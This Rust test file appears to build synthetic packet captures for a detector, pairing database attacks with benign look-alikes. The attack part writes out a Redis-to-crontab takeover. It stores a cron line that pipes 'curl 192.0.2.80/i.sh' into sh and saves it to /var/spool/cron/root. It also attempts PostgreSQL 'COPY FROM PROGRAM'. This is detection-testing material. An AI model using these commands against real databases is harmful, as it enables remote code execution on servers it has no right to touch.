//! `db-abuse`: one pod takes a Redis by writing into a crontab, another runs a program by way of PostgreSQL; their twins
//! are an operator that sets up a replica, and a backup.

use std::time::Duration;

use super::{Case, Expect, Inventory, LENGTH, Part, at, ordinary};
use crate::testkit::cluster::{Cluster, START, Workload};
use crate::testkit::scene::{Route, Scene};
use crate::testkit::talk::postgres::{self, Login};
use crate::testkit::talk::redis::{self, Reply};
use crate::testkit::talk::tcp::{Session, Side};

const OPERATOR: Workload = Workload {
    namespace: "shop",
    kind: "Deployment",
    name: "redis-operator",
};
/// Who takes the Redis, and who has PostgreSQL run a program.
const CRON: u8 = 14;
const SHELL: u8 = 11;
const CRON_BEGINS: u64 = 45;
const SHELL_BEGINS: u64 = 80;

/// The captures and what must be found.
pub fn case() -> Case {
    let cluster = cluster();
    let expect = |actor: u8, begins: u64| {
        let begins = Duration::from_secs(begins);
        Expect::new("db-abuse", "database", cluster.pod(actor), begins).within(30)
    };
    Case {
        id: "db-abuse",
        parts: vec![
            Part {
                role: "attack",
                file: "attack.pcap",
                story: "The worker has Redis save its data as a crontab. A web pod has PostgreSQL run a program, which its user may not do.",
                seed: 77,
                record: attack,
                inventory: Inventory::List(cluster.clone()),
            },
            Part {
                role: "benign",
                file: "benign.pcap",
                story: "An operator makes one Redis another's replica and writes its settings down. A job has Redis save its data every minute. A report copies a table out of PostgreSQL.",
                seed: 78,
                record: benign,
                inventory: Inventory::List(cluster.clone()),
            },
        ],
        expect: vec![expect(CRON, CRON_BEGINS), expect(SHELL, SHELL_BEGINS)],
    }
}

fn cluster() -> Cluster {
    let mut cluster = Cluster::default();
    let since = START.before(Duration::from_hours(60));
    cluster.deploy(OPERATOR, "1", since, &[26]);
    cluster
}

const OK: Reply<'static> = Reply::Simple("OK");

/// The attacks' capture.
pub fn attack(seed: u64) -> Vec<u8> {
    let cluster = cluster();
    let mut scene = ordinary(seed, &cluster, START, LENGTH);
    let route = Route::direct(cluster.pod(CRON).host, cluster.pod(21).host, redis::PORT);
    let mut session = Session::open(&mut scene, route, at(CRON_BEGINS));
    for (command, answer) in [
        (&["AUTH", "shop-cache"][..], OK),
        (
            &["SET", "x", "\n\n*/2 * * * * curl 192.0.2.80/i.sh|sh\n\n"],
            OK,
        ),
        (&["CONFIG", "SET", "dir", "/var/spool/cron/"], OK),
        (&["CONFIG", "SET", "dbfilename", "root"], OK),
        (&["SAVE"], OK),
    ] {
        redis::ask(&mut scene, &mut session, command, answer);
        let pause = scene.rng.about(Duration::from_millis(400));
        session.wait(&mut scene, pause);
    }
    session.close(&mut scene, Side::Client);

    let route = Route::direct(
        cluster.pod(SHELL).host,
        cluster.pod(20).host,
        postgres::PORT,
    );
    let mut session = Session::open(&mut scene, route, at(SHELL_BEGINS));
    postgres::log_in(&mut scene, &mut session, &login("web"), true);
    postgres::query(&mut scene, &mut session, "CREATE TABLE c(o text)", 0, 0);
    let sql = "COPY c FROM PROGRAM 'id'";
    let text = "permission denied to COPY to or from an external program";
    postgres::fail(&mut scene, &mut session, sql, "42501", text);
    postgres::leave(&mut scene, session);
    scene.finish()
}

/// The honest twin's capture.
pub fn benign(seed: u64) -> Vec<u8> {
    let cluster = cluster();
    let mut scene = ordinary(seed, &cluster, START, LENGTH);
    let route = Route::direct(cluster.pod(26).host, cluster.pod(21).host, redis::PORT);
    let mut session = Session::open(&mut scene, route, at(30));
    for (command, answer) in [
        (&["AUTH", "shop-cache"][..], OK),
        (&["INFO", "replication"], Reply::Bulk("role:master")),
        (&["REPLICAOF", "10.244.1.77", "6379"], OK),
        (&["CONFIG", "REWRITE"], OK),
        (&["REPLICAOF", "NO", "ONE"], OK),
    ] {
        redis::ask(&mut scene, &mut session, command, answer);
    }
    session.close(&mut scene, Side::Client);
    for n in 0..3 {
        let route = Route::direct(cluster.pod(14).host, cluster.pod(21).host, redis::PORT);
        let mut session = Session::open(&mut scene, route, at(20 + n * 55));
        redis::ask(&mut scene, &mut session, &["AUTH", "shop-cache"], OK);
        let started = Reply::Simple("Background saving started");
        redis::ask(&mut scene, &mut session, &["BGSAVE"], started);
        session.close(&mut scene, Side::Client);
    }
    report(&mut scene, &cluster);
    scene.finish()
}

fn report(scene: &mut Scene, cluster: &Cluster) {
    let route = Route::service(cluster.pod(14).host, cluster.pod(20).host, postgres::PORT);
    let mut session = Session::open(scene, route, at(60));
    postgres::log_in(scene, &mut session, &login("reports"), true);
    postgres::copy_out(scene, &mut session, "order_lines", 40_000);
    postgres::leave(scene, session);
}

const fn login(user: &str) -> Login<'_> {
    Login {
        user,
        database: "shop",
        application: "",
    }
}
